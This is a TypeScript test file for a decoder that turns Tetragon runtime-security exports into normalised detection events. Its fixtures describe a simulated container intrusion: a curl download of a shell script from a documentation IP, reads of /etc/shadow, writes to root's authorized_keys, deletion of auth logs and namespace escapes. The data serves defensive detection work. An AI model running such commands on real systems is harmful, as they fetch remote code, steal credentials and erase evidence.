import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { DecodeIssue } from '../format.js';
import type { FileAccessEvent, NamespaceChangeEvent, NetConnectEvent, PipelineLossEvent, ProcessExecEvent, VigilEvent } from '../../events/model.js';
import { sourceDirOf } from '../../util/paths.js';
import tetragon, { openTetragon } from './format.js';
import { splitArguments } from './args.js';
import { namespaceNames, normaliseFunction } from './kprobe.js';

const fixture = join(sourceDirOf(import.meta.url), 'testdata', 'export.jsonl');

function decodeFixture() {
  const events: VigilEvent[] = [];
  const issues: DecodeIssue[] = [];
  const decoder = openTetragon({ event: (e) => events.push(e), issue: (i) => issues.push(i) }, { node: 'fallback-node' });
  readFileSync(fixture, 'utf8')
    .split('\n')
    .forEach((line, i) => decoder.line(line, { file: 'export.jsonl', line: i + 1 }));
  decoder.end();
  return { events, issues, stats: decoder.stats() };
}

test('splitArguments undoes Tetragon\'s join, quotes around arguments with spaces included', () => {
  assert.deepEqual(splitArguments('-fsSL http://x/k.sh -o /tmp/k.sh'), ['-fsSL', 'http://x/k.sh', '-o', '/tmp/k.sh']);
  assert.deepEqual(splitArguments('-c "echo hi; id" x'), ['-c', 'echo hi; id', 'x']);
  // Tetragon prefixes a space when the first argument is quoted.
  assert.deepEqual(splitArguments(' "a b" c'), ['a b', 'c']);
  assert.deepEqual(splitArguments('say "unterminated x'), ['say', '"unterminated', 'x']);
  assert.deepEqual(splitArguments('a"b c'), ['a"b', 'c']);
  assert.deepEqual(splitArguments(''), []);
});

test('function names and namespace flags', () => {
  assert.equal(normaliseFunction('__x64_sys_unshare'), 'sys_unshare');
  assert.equal(normaliseFunction('__arm64_sys_setns'), 'sys_setns');
  assert.equal(normaliseFunction('ksys_unshare'), 'sys_unshare');
  assert.equal(normaliseFunction('security_file_permission'), 'security_file_permission');
  assert.deepEqual(namespaceNames(0x40000000 | 0x00020000), ['mnt', 'net']);
  assert.deepEqual(namespaceNames(0), []);
});

test('process_exec: argv, command line, container, ancestry rebuilt through procFS inventory', () => {
  const { events } = decodeFixture();
  const execs = events.filter((e): e is ProcessExecEvent => e.kind === 'process.exec');
  // procFS inventory and the exec probe are not new executions.
  assert.deepEqual(execs.map((e) => e.process.executable), ['/bin/sh', '/usr/bin/curl']);
  const [sh, curl] = execs;
  assert.equal(sh.id, sh.process.execId);
  assert.deepEqual(sh.process.args, ['sh']);
  assert.equal(sh.process.inInitTree, false);
  assert.equal(sh.ancestors[0].executable, '/usr/bin/containerd-shim-runc-v2');
  assert.equal(sh.process.ppid, 409001);

  assert.equal(curl.time, Date.parse('2025-03-14T09:21:07.699Z'));
  assert.equal(curl.node, 'aks-nodepool1-38291734-vmss000002');
  assert.equal(curl.cluster, 'prod-weu');
  assert.equal(curl.origin, 'export.jsonl:3');
  assert.deepEqual(curl.process.args, ['curl', '-fsSL', '-H', 'User-Agent: x y', 'http://203.0.113.45/k.sh', '-o', '/tmp/k.sh']);
  assert.equal(curl.process.commandLine, 'curl -fsSL -H "User-Agent: x y" http://203.0.113.45/k.sh -o /tmp/k.sh');
  assert.equal(curl.process.uid, 0);
  assert.equal(curl.process.auid, undefined, '4294967295 is the unset login uid');
  assert.equal(curl.process.cwd, '/app');
  // No parent block (field filter): the chain comes from the table: sh, then the shim.
  assert.deepEqual(curl.ancestors.map((a) => a.pid), [412850, 409001]);
  assert.equal(curl.process.ppid, 412850);
  assert.deepEqual(curl.container, {
    id: '8f2b6c1d9e0a4b3c7d5e6f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c',
    runtime: 'containerd',
    name: 'api',
    image: 'registry.example.com/payments/api:1.14.2',
    imageId: 'registry.example.com/payments/api@sha256:2f6e0c6a3b1d4e5f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f',
    pod: 'api-7c9f6d-x2k4q',
    namespace: 'payments',
    podUid: '5d0c8a1e-2b7f-4f3a-9c61-8e2d4b7a1f09',
    workload: 'api',
    workloadKind: 'Deployment',
  });
});

test('process_kprobe: connections, once per socket, IPv6 canonical', () => {
  const { events, stats } = decodeFixture();
  const nets = events.filter((e): e is NetConnectEvent => e.kind === 'net.connect');
  assert.equal(nets.length, 2);
  assert.deepEqual(
    nets.map((n) => [n.family, n.remoteAddress, n.remotePort, n.protocol, n.success]),
    [
      ['inet', '203.0.113.45', 3333, 'tcp', true],
      ['inet6', '2001:db8:85a3::8a2e:370:7334', 443, 'tcp', true],
    ],
  );
  assert.equal(nets[0].container?.pod, 'api-7c9f6d-x2k4q');
  assert.equal(nets[0].ancestors[0].executable, '/bin/sh');
  assert.equal(stats.repeatedSends, 1);
});

test('process_kprobe and process_lsm: file operations from mask or hook, failures kept', () => {
  const { events } = decodeFixture();
  const files = events.filter((e): e is FileAccessEvent => e.kind === 'file.access');
  assert.deepEqual(
    files.map((f) => [f.operation, f.path, f.targetPath, f.success]),
    [
      ['read', '/etc/shadow', undefined, true],
      ['write', '/root/.ssh/authorized_keys', undefined, false],
      ['unlink', '/var/log/auth.log', undefined, true],
      ['rename', '/var/log/syslog', '/tmp/.s', true],
      ['utimes', '/usr/bin/kubectl', undefined, true],
      ['open', '/etc/sudoers', undefined, true],
    ],
  );
  // A kprobe whose process block lacks the arguments borrows them from the exec seen earlier.
  assert.equal(files[0].process.commandLine, 'curl -fsSL -H "User-Agent: x y" http://203.0.113.45/k.sh -o /tmp/k.sh');
  assert.equal(files[0].container?.namespace, 'payments');
  // A host process: no container.
  assert.equal(files[2].container, undefined);
  assert.equal(files[2].process.commandLine, 'rm -f /var/log/auth.log');
});

test('namespace changes and loss events', () => {
  const { events } = decodeFixture();
  const ns = events.filter((e): e is NamespaceChangeEvent => e.kind === 'process.namespace');
  assert.deepEqual(
    ns.map((n) => [n.operation, n.namespaces, n.success]),
    [
      ['unshare', ['mnt', 'user', 'pid', 'net'], true],
      ['setns', ['pid'], false],
    ],
  );
  const loss = events.filter((e): e is PipelineLossEvent => e.kind === 'pipeline.loss');
  assert.deepEqual(
    loss.map((l) => [l.reason, l.count, l.node]),
    [
      ['tetragon-rate-limit', 1200, 'aks-nodepool1-38291734-vmss000002'],
      ['tetragon-throttle', 0, 'aks-nodepool1-38291734-vmss000002'],
    ],
  );
});

test('issues: malformed lines with their line, unknown keys and unmapped hooks once', () => {
  const { issues, stats, events } = decodeFixture();
  const text = issues.map((i) => `${i.origin.line}: ${i.reason}`);
  assert.equal(issues.length, 6, text.join('\n'));
  assert.match(text[0], /^18: unknown Tetragon event 'process_future_thing'/);
  assert.match(text[1], /^20: process_kprobe hook 'commit_creds' has no meaning/);
  assert.match(text[2], /^24: not valid JSON/);
  assert.match(text[3], /^25: not a JSON object/);
  assert.match(text[4], /^26: process_exec without a valid 'time'/);
  assert.match(text[5], /^28: tcp_connect: no socket or sockaddr argument/);
  assert.equal(stats.preExisting, 1);
  assert.equal(stats.execProbesSkipped, 1);
  assert.equal(stats.exits, 1);
  assert.equal(stats.ignored.process_tracepoint, 1);
  assert.equal(stats.ignored['process_kprobe:commit_creds'], 2);
  assert.equal(stats.events, events.length);
  assert.equal(stats.issues, 6);
});

test('every nested block is optional and hostile values never throw', () => {
  const events: VigilEvent[] = [];
  const issues: DecodeIssue[] = [];
  const decoder = tetragon.open({ event: (e) => events.push(e), issue: (i) => issues.push(i) }, { node: 'n1', cluster: 'c1' });
  const hostile = [
    '{"process_kprobe":{"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/shadow"}}]},"time":"2025-03-14T09:00:00Z"}',
    '{"process_exec":{"process":{"exec_id":"bm9kZToxMjM6NDI=","binary":"/bin/x","pod":{}}},"time":"2025-03-14T09:00:00Z"}',
    '{"process_kprobe":{"process":null,"function_name":7,"args":"x"},"time":"2025-03-14T09:00:00Z"}',
    '{"process_kprobe":{"function_name":"tcp_connect","args":[null,{"sock_arg":{"family":"AF_INET","daddr":"not-an-ip"}}]},"time":"2025-03-14T09:00:00Z"}',
    '{"process_exec":{"process":{"arguments":"\\"\\"\\"","pid":"12"},"parent":[],"ancestors":{}},"time":"x"}',
    '{"process_exec":"nope","time":"2025-03-14T09:00:00Z"}',
    '{"time":"2025-03-14T09:00:00Z"}',
    'null',
  ];
  hostile.forEach((line, i) => decoder.line(line, { file: 'h', line: i + 1 }));
  assert.equal(events.length, 2);
  const [file, exec] = events as [FileAccessEvent, ProcessExecEvent];
  assert.equal(file.node, 'n1');
  assert.equal(file.cluster, 'c1');
  assert.equal(file.process.pid, 0);
  // pid recovered from the exec_id ("node:123:42"); a pod without a container still marks a container.
  assert.equal(exec.process.pid, 42);
  assert.deepEqual(exec.container, { id: '' });
  assert.equal(issues.length, 6);
  assert.ok(issues.every((i) => i.origin.file === 'h' && i.reason.length > 0));
});

test('sniff recognises the export and nothing else', () => {
  const head = readFileSync(fixture, 'utf8').slice(0, 4000);
  assert.ok(tetragon.sniff(head) >= 0.9);
  assert.equal(tetragon.sniff('{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"x"}'), 0);
  assert.equal(tetragon.sniff('type=SYSCALL msg=audit(1.2:3): arch=c000003e'), 0);
});
